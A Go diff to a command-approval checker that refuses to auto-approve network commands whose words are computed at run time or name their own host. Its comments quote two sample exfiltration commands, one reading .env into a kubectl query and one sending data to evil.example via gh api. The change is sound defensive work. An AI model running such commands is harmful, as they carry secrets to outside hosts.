@@ -31,7 +31,8 @@ func init() {
 	tableChecks = map[string]func([]string) bool{
 		"sed": sedSafe, "awk": awkReadOnly, "find": findReadOnly,
 		"tar-list": tarListReadOnly, "ps": psReadOnly, "sql-meta": sqlMeta,
-		"no-file": func(v []string) bool { return len(v) == 1 && !strings.Contains(v[0], "file") },
+		"no-file":    func(v []string) bool { return len(v) == 1 && !strings.Contains(v[0], "file") },
+		"owner-repo": ownerRepo,
 	}
 }
 
@@ -65,11 +66,12 @@ func (t *Table) decide(words []Word, viaXargs bool) tableDecision {
 	}
 	var files []File
 	ops, dynamic, endOpts := 0, false, false
+	remote := false // a word names a host (see hostword.go)
 	var seen []string
 	for i := 0; i < len(args); i++ {
 		w := args[i]
 		if n.check != nil {
-			return n.finish(checkWords(n.check, args[i:]), anyDynamic(args[i:]) || dynamic, files)
+			return n.finish(checkWords(n.check, args[i:]), anyDynamic(args[i:]) || dynamic || remote, files)
 		}
 		dynamic = dynamic || w.Dynamic
 		v := w.Value
@@ -123,6 +125,7 @@ func (t *Table) decide(words []Word, viaXargs bool) tableDecision {
 					dynamic = dynamic || args[i].Dynamic
 					val, has = args[i].Value, true
 				}
+				remote = remote || has && valueNamesHost(val)
 				if info.values != nil && (!has || !info.values[val]) || info.check != nil && (!has || !info.check([]string{val})) {
 					return tableDecision{}
 				}
@@ -154,9 +157,10 @@ func (t *Table) decide(words []Word, viaXargs bool) tableDecision {
 				}
 				inner = inner[:len(inner)-len(xargsInput)]
 			}
-			return n.finish(t.innerReadOnly(inner), false, files)
+			return n.finish(t.innerReadOnly(inner), remote, files)
 		}
 		ops++
+		remote = remote || valueNamesHost(v) || !n.plainOperands && operandNamesHost(v)
 		if n.fileOps || n.firstFileOp && ops == 1 {
 			files = append(files, tableFile(v, via))
 			if w.Dynamic {
@@ -165,7 +169,7 @@ func (t *Table) decide(words []Word, viaXargs bool) tableDecision {
 		}
 	}
 	if n.check != nil {
-		return n.finish(n.check(nil), dynamic, files)
+		return n.finish(n.check(nil), dynamic || remote, files)
 	}
 	if ops > 0 && len(n.operandsNeed) > 0 && !hasAny(seen, n.operandsNeed) {
 		return tableDecision{}
@@ -173,12 +177,13 @@ func (t *Table) decide(words []Word, viaXargs bool) tableDecision {
 	if n.effect != EffectReadOnly || n.maxOps >= 0 && ops > n.maxOps || !hasAny(seen, n.requires) {
 		return tableDecision{}
 	}
-	return n.finish(true, dynamic, files)
+	return n.finish(true, dynamic || remote, files)
 }
 
 // finish applies what holds for every approval: the category is on, and a
 // command that reaches a server carries no word computed at run time (a
-// read-only query must not carry data out: `kubectl get $(cat .env)`).
+// read-only query must not carry data out: `kubectl get $(cat .env)`) and
+// no word naming a host of its own (`gh api https://evil.example/?d=…`).
 func (n *tableNode) finish(ok, dynamic bool, files []File) tableDecision {
 	if !ok || n.disabled || n.network && dynamic {
 		return tableDecision{}
